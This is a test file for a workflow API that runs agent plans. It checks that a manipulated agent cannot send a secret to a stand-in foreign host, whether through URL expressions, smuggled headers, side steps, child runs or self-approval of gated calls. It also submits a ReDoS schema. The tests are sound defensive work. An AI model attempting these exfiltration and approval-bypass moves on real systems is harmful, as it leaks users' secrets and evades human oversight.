/** What an agent that was talked into something bad tries with plans: each ends where policy says, and the referee sees nothing. */
import { beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { RunView } from "../../src/run/index.ts";
import { expectAnswer, expectProblem, newKey, newTenant, send } from "./api-support.ts";
import { arrived } from "./run-support.ts";

const HOME = "api.skyline.example";
/** Somebody else's service: it is there, and the referee would see what comes. */
const FOREIGN = "api.harbour.example";
const POLICY = { hosts: [{ host: HOME }] };

let admin = "";
let agent = "";
/** Names what a test sends, for the referee. */
let reference = "";

beforeAll(async () => {
  admin = await newTenant("exfiltration");
  await expectAnswer(await send("PUT", "/v1/policy", { key: admin, body: POLICY }), "putPolicy", 200);
  const scopes = ["runs:read", "runs:write", "outputs:read", "workflows:read"];
  agent = await newKey(admin, { scopes, user: "ada", expires_at: Date.now() + 3_000_000 });
});
beforeEach(() => {
  reference = crypto.randomUUID();
});

function plan(steps: unknown): unknown {
  return { plan: { steps }, input: { host: FOREIGN, secret: "what only Ada should know" } };
}

function post(url: string, more: object = {}): object {
  return {
    action: "http",
    effect: "safe",
    retry: { attempts: 1 },
    with: { method: "POST", url, headers: { "x-reference": reference }, json: "${{ input.secret }}" },
    ...more,
  };
}

function start(body: unknown, key = agent): Promise<Response> {
  return send("POST", "/v1/runs", { key, body, headers: { prefer: "wait=20" } });
}

async function ended(response: Response): Promise<RunView> {
  return expectAnswer<RunView>(response, "startRun", 200);
}

const DENIED = { code: "policy_denied", retryable: false };

describe("what a plan was given does not get to a foreign host", () => {
  test("the same plan to a host that is allowed arrives, so that what does not arrive was stopped", async () => {
    await ended(await start(plan({ tell: post(`https://${HOME}/bookings`) })));
    expect((await arrived(reference)).length).toBe(1);
  });

  test("by a step that posts the output of another: refused before it starts, with its place", async () => {
    const steps = {
      read: { action: "http", with: { method: "GET", url: `https://${HOME}/bookings` } },
      leak: post(`https://${FOREIGN}/reservations`, { needs: ["read"] }),
    };
    const problem = await expectProblem(await start(plan(steps)), 403, "policy_denied");
    expect(problem.errors?.map(({ pointer }) => pointer)).toEqual(["/plan/steps/leak/with/url"]);
    expect(await arrived(reference)).toEqual([]);
  });

  test.each([
    ["a host", "https://${{ input.host }}/reservations"],
    ["a part of a host", "https://api.${{ 'harbour' }}.example/reservations"],
    ["a port", `https://${HOME}:\${{ 443 }}/reservations`],
    ["user-info", `https://\${{ input.secret }}@${HOME}/`],
    ["a scheme", `\${{ 'https' }}://${FOREIGN}/`],
  ])("by an expression in %s: no plan", async (_, url) => {
    const problem = await expectProblem(await start(plan({ leak: post(url) })), 422, "bad_plan");
    expect(problem.errors?.some(({ pointer }) => pointer === "/plan/steps/leak/with/url")).toBe(true);
    expect(await arrived(reference)).toEqual([]);
  });

  test("by a path that an expression would turn into another host", async () => {
    const leak = post(`https://${HOME}/\${{ '/' + input.host + '/../' }}`);
    const run = await ended(await start(plan({ leak })));
    expect(run.status).toBe("failed");
    for (const { service } of await arrived(reference)) expect(service).toBe("airline");
  });

  test("by a header that names another host, or holds a credential", async () => {
    for (const headers of [{ host: FOREIGN }, { authorization: "Bearer ${{ input.secret }}" }]) {
      const leak = { action: "http", with: { method: "GET", url: `https://${HOME}/`, headers } };
      await expectProblem(await start(plan({ leak })), 422, "bad_plan");
    }
  });

  test("by a step of onFailure, a verify or a compensate", async () => {
    const body = {
      plan: {
        steps: {
          book: {
            ...post(`https://${HOME}/bookings`, { effect: "once" }),
            verify: { action: "http", with: { method: "GET", url: `https://${FOREIGN}/reservations` } },
            compensate: {
              action: "http",
              with: { method: "DELETE", url: `https://${FOREIGN}/reservations/1` },
            },
          },
        },
        onFailure: { tell: post(`https://${FOREIGN}/reservations`) },
      },
      input: {},
    };
    const problem = await expectProblem(await start(body), 403, "policy_denied");
    expect(problem.errors?.map(({ pointer }) => pointer).toSorted()).toEqual([
      "/plan/onFailure/tell/with/url",
      "/plan/steps/book/compensate/with/url",
      "/plan/steps/book/verify/with/url",
    ]);
  });

  test("by a child run that sends where its input says", async () => {
    const child = { workflow: "t-send", input: { url: `https://${FOREIGN}/reservations` } };
    const run = await ended(await start(plan({ sub: { action: "run", with: child } })));
    expect(run).toMatchObject({ status: "failed", failure: { code: "child_failed" } });
    const sub = run.steps[0];
    if (sub?.child === undefined) throw new Error("there is no child");
    const seen = await send("GET", `/v1/runs/${sub.child}`, { key: agent });
    expect(await expectAnswer<RunView>(seen, "getRun", 200)).toMatchObject({
      status: "failed",
      user: "ada",
      failure: DENIED,
    });
    expect(await arrived(sub.child)).toEqual([]);
  });

  test("by a child run that the key may not start, and that a workflow in TypeScript names: the step fails, and no child is there", async () => {
    const scopes = ["runs:read", "runs:write", "outputs:read"];
    const key = await newKey(admin, { scopes, policy: { workflows: ["t-parent-sleep"] } });
    const run = await ended(await start({ workflow: "t-parent-sleep", input: { ms: 1 } }, key));
    expect(run).toMatchObject({ status: "failed", failure: DENIED });
    expect(run.steps[0]?.child).toBeUndefined();
  });

  test("by a user that the key may not name", async () => {
    const body = { ...(plan({ one: { action: "sleep", with: { for: 0 } } }) as object), user: "bob" };
    await expectProblem(await start(body), 403, "user_wider");
  });
});

describe("an approval of a plan", () => {
  const gated = { ask: { action: "wait", with: { approval: "Send ${{ input.secret }}?", timeout: "1h" } } };

  async function waiting(): Promise<{ run: string; approval: string }> {
    const run = await expectAnswer<RunView>(
      await send("POST", "/v1/runs", { key: admin, body: { ...(plan(gated) as object), user: "ada" } }),
      "startRun",
      202,
    );
    return { run: run.id, approval: run.steps[0]?.awaits_approval ?? "" };
  }

  test("is not given by the key that started the run", async () => {
    const { approval } = await waiting();
    const decided = await send("POST", `/v1/approvals/${approval}`, {
      key: admin,
      body: { decision: "approved" },
    });
    await expectProblem(decided, 403, "approver_is_starter");
  });

  test("is not given through signals, whatever their name", async () => {
    const { run, approval } = await waiting();
    for (const name of ["ask", "approval", "approved"]) {
      const sent = await send("POST", `/v1/runs/${run}/signals/${name}`, {
        key: admin,
        body: { payload: true },
      });
      await expectProblem(sent, 409, "signal_not_expected");
    }
    const seen = await expectAnswer<RunView>(
      await send("GET", `/v1/runs/${run}`, { key: admin }),
      "getRun",
      200,
    );
    expect(seen.steps[0]).toMatchObject({ status: "waiting", awaits_approval: approval });
  });
});

describe("what a key may not start as a child", () => {
  const SECRET = {
    input: {
      type: "object",
      required: ["salary"],
      properties: { salary: { type: "number" } },
      additionalProperties: false,
    },
    steps: { a: { action: "transform", with: { value: 1 } } },
  };
  const sub = (workflow: string, input: object = {}): object => ({
    action: "run",
    with: { workflow, input },
  });
  let boss = "";
  let blind = "";
  let seeing = "";

  beforeAll(async () => {
    boss = await newTenant("exfiltration-children");
    for (const [name, body] of [
      ["hidden", SECRET],
      ["around", { steps: { go: sub("hidden", { salary: 1 }) } }],
      ["abroad", { steps: { go: { action: "http", with: { method: "GET", url: `https://${FOREIGN}/` } } } }],
    ] as const)
      await expectAnswer(await send("PUT", `/v1/workflows/${name}`, { key: boss, body }), "putWorkflow", 201);
    const policy = { hosts: [{ host: HOME }], workflows: ["around", "abroad", "planned"], inline: true };
    const scopes = ["runs:read", "runs:write"];
    blind = await newKey(boss, { scopes, policy });
    seeing = await newKey(boss, { scopes: [...scopes, "workflows:*"], policy });
  });

  const ALL = {
    direct: sub("hidden", { salary: 1 }),
    unfit: sub("hidden", { x: 1 }),
    old: { action: "run", with: { workflow: "hidden", version: "99" } },
    none: sub("not-there"),
    through: sub("around"),
    abroad: sub("abroad"),
  };
  const PLACES = Object.keys(ALL).map((name) => `/steps/${name}/with/workflow policy_denied`);
  const lines = (found: readonly { pointer?: string; code?: string }[] | undefined): string[] =>
    (found ?? []).map(({ pointer, code }) => `${pointer} ${code}`).toSorted();

  test("is told by the check of the plan, with each place, also below what it may start", async () => {
    const told = await send("POST", "/v1/plans/validate", { key: seeing, body: { plan: { steps: ALL } } });
    const report = await expectAnswer<{ valid: boolean; errors: { pointer: string; detail: string }[] }>(
      told,
      "validatePlan",
      200,
    );
    expect(report.valid).toBe(false);
    expect(lines(report.errors)).toEqual(PLACES.map((one) => `/plan${one}`).toSorted());
    expect(report.errors.find(({ pointer }) => pointer.includes("/through/"))?.detail).toContain(
      "around starts hidden",
    );
  });

  test("keeps a plan from starting, and steps from being appended, before anything ran", async () => {
    const planned = await expectProblem(await start({ plan: { steps: ALL } }, blind), 403, "policy_denied");
    expect(lines(planned.errors)).toEqual(PLACES.map((one) => `/plan${one}`).toSorted());
    const body = { open: true, steps: {} };
    const opened = await send("POST", "/v1/runs", { key: blind, body });
    const { id } = await expectAnswer<RunView>(opened, "startRun", 202);
    const more = await send("POST", `/v1/runs/${id}/steps`, { key: blind, body: { steps: ALL } });
    const appended = await expectProblem(more, 403, "policy_denied");
    expect(lines(appended.errors)).toEqual([...PLACES].toSorted());
  });

  test("is advice where a plan is stored, and keeps it from starting by name", async () => {
    const body = { steps: { go: sub("hidden", { salary: 1 }) } };
    const stored = await send("PUT", "/v1/workflows/planned", { key: seeing, body });
    const { advice } = await expectAnswer<{ advice?: { pointer: string; code: string }[] }>(
      stored,
      "putWorkflow",
      201,
    );
    expect(lines(advice)).toEqual(["/steps/go/with/workflow policy_denied"]);
    for (const workflow of ["planned", "around"]) {
      const problem = await expectProblem(await start({ workflow }, seeing), 403, "policy_denied");
      expect(lines(problem.errors)).toEqual(["/workflow policy_denied"]);
    }
    expect(await (await send("GET", "/v1/runs", { key: boss })).text()).not.toContain('"planned"');
  });

  test("answers the same whether it is there or not, and nothing of its input", async () => {
    const said = async (body: object): Promise<string> => {
      const problem = await expectProblem(await start(body, blind), 403, "policy_denied");
      return JSON.stringify(problem.errors).replaceAll(/hidden|absent/g, "NAME");
    };
    const ofSteps = (name: string, input?: object): object => ({ plan: { steps: { a: sub(name, input) } } });
    const [direct, ...others] = [
      await said({ workflow: "hidden" }),
      await said({ workflow: "absent" }),
      await said({ workflow: "hidden", input: { x: 1 } }),
      await said({ workflow: "hidden", version: "99" }),
    ];
    expect(new Set(others)).toEqual(new Set([direct]));
    const [child, ...rest] = [
      await said(ofSteps("hidden")),
      await said(ofSteps("absent")),
      await said(ofSteps("hidden", { x: 1 })),
    ];
    expect(new Set(rest)).toEqual(new Set([child]));
    expect(direct + (child ?? "")).not.toContain("salary");
    const through = await start({ plan: { steps: { a: sub("around") } } }, blind);
    expect(await through.text()).not.toMatch(/hidden|salary/);
  });
});

describe("a call that a policy wants approved", () => {
  test("is told by the check of the plan, waits, and is sent once somebody else has agreed", async () => {
    const boss = await newTenant("exfiltration-gated");
    const policy = { hosts: [{ host: HOME, approval: "writes" }] };
    await expectAnswer(await send("PUT", "/v1/policy", { key: boss, body: policy }), "putPolicy", 200);
    const steps = { tell: post(`https://${HOME}/bookings`, { effect: "keyed" }) };
    const told = await send("POST", "/v1/plans/validate", { key: boss, body: plan(steps) });
    expect(await expectAnswer(told, "validatePlan", 200)).toMatchObject({
      valid: true,
      summary: { steps: [{ requests: [{ policy: { verdict: "approval" } }] }] },
    });
    const run = await expectAnswer<RunView>(
      await send("POST", "/v1/runs", { key: await newKey(boss, {}), body: plan(steps) }),
      "startRun",
      202,
    );
    expect(run.steps[0]).toMatchObject({ status: "waiting", awaits_approval: `${run.id}.tell.g1` });
    expect(await arrived(reference)).toEqual([]);
    const other = await newKey(boss, { scopes: ["approvals:decide", "runs:read"] });
    const decided = await send("POST", `/v1/approvals/${run.id}.tell.g1`, {
      key: other,
      body: { decision: "approved" },
    });
    await expectAnswer(decided, "decideApproval", 200);
    const over = await send("GET", `/v1/runs/${run.id}`, { key: boss, headers: { prefer: "wait=20" } });
    expect((await expectAnswer<RunView>(over, "getRun", 200)).status).toMatch(/succeeded|failed/);
    expect((await arrived(reference)).length).toBe(1);
  });
});

describe("a key whose policy lets it bring no steps", () => {
  test("stores none either, under whatever name", async () => {
    const scopes = ["runs:read", "runs:write", "workflows:write"];
    const key = await newKey(admin, { scopes, policy: { workflows: ["nightly"] } });
    const body = { steps: { a: { action: "transform", with: { value: 1 } } } };
    await expectProblem(await send("PUT", "/v1/workflows/nightly", { key, body }), 403, "policy_denied");
  });
});

describe("a start that is sent again", () => {
  test("finds its run, whatever the policies have come to say; the same without its key is refused", async () => {
    const boss = await newTenant("exfiltration-again");
    const body = plan({ pause: { action: "wait", with: { signal: "go" } } });
    const headers = { "idempotency-key": "once-and-again" };
    const first = await send("POST", "/v1/runs", { key: boss, body, headers });
    const { id } = await expectAnswer<RunView>(first, "startRun", 202);
    const closed = { inline: false };
    await expectAnswer(await send("PUT", "/v1/policy", { key: boss, body: closed }), "putPolicy", 200);
    const again = await send("POST", "/v1/runs", { key: boss, body, headers });
    expect(again.headers.get("idempotent-replayed")).toBe("true");
    expect((await expectAnswer<RunView>(again, "startRun", 202)).id).toBe(id);
    await expectProblem(await send("POST", "/v1/runs", { key: boss, body }), 403, "policy_denied");
  });
});

describe("a signal whose payload does not fit", () => {
  test("is refused with its place, is not kept, and the step goes on waiting", async () => {
    const schema = { type: "object", required: ["seat"], properties: { seat: { type: "string" } } };
    const steps = { choice: { action: "wait", with: { signal: "seat", timeout: "1h", schema } } };
    const run = await expectAnswer<RunView>(
      await send("POST", "/v1/runs", { key: agent, body: plan(steps) }),
      "startRun",
      202,
    );
    const address = `/v1/runs/${run.id}/signals/seat`;
    const bad = await send("POST", address, { key: agent, body: { id: "one", payload: { seat: 12 } } });
    const problem = await expectProblem(bad, 422, "invalid_payload");
    expect(problem.errors?.map(({ pointer }) => pointer)).toEqual(["/payload/seat"]);
    const good = await send("POST", address, { key: agent, body: { id: "one", payload: { seat: "12A" } } });
    await expectAnswer(good, "sendSignal", 200);
    const over = await send("GET", `/v1/runs/${run.id}`, { key: agent, headers: { prefer: "wait=20" } });
    expect(await expectAnswer<RunView>(over, "getRun", 200)).toMatchObject({
      status: "succeeded",
      output: { value: { choice: { seat: "12A" } } },
    });
  });

  test("and a schema that could not be checked is no plan", async () => {
    const schema = { type: "string", pattern: "^(a+)+$" };
    const steps = { choice: { action: "wait", with: { signal: "seat", schema } } };
    const problem = await expectProblem(await start(plan(steps)), 422, "bad_plan");
    expect(problem.errors?.[0]?.pointer).toBe("/plan/steps/choice/with/schema/pattern");
  });
});
